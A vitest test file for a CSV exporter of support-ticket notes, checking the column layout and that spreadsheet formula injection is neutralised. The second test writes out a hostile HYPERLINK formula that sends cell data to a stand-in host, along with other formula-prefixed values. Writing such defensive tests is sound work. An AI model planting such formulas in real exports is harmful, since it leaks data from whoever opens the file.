import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { notesCsv } from '../../shared/friction/notes-csv.ts';
import { note, ticket } from './notes.ts';

const rowsOf = (csv: string) =>
  Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;

test('one row a note, removed ones left out', () => {
  const pin = { messageId: '88', quote: { exact: 'third time', before: '', after: '' } };
  const csv = notesCsv([
    { ...ticket(note(1, { pin, next: 'refund' }), note(2, { removedAt: 1 })), subject: 'Räkning' },
  ]);
  expect(csv.startsWith('\uFEFFdesk,site,ticket,')).toBe(true);
  expect(rowsOf(csv)).toEqual([
    {
      desk: 'zendesk',
      site: 'acme.zendesk.com',
      ticket: '1234',
      number: '',
      subject: 'Räkning',
      address: 'https://acme.zendesk.com/agent/tickets/1234',
      type: 'transfer',
      severity: '2',
      text: 'Sent on twice.',
      quote: 'third time',
      next: 'refund',
      message: '88',
      created: '1970-01-01T00:00:01.001Z',
      updated: '1970-01-01T00:00:01.001Z',
      note: note(1).id,
    },
  ]);
});

test('nothing of a ticket runs as a formula in a spreadsheet', () => {
  const evil = '=HYPERLINK("http://x.example/?"&A1,"open")';
  const pin = { messageId: '@x', quote: { exact: '+1', before: '', after: '' } };
  const csv = notesCsv([
    { ...ticket(note(1, { text: evil, next: '-2+3', pin })), subject: evil, id: '\t=1', number: '=2' },
  ]);
  const cells = Object.values(rowsOf(csv)[0] ?? {});
  expect(cells.filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
  expect(cells).toContain(`'${evil}`);
});
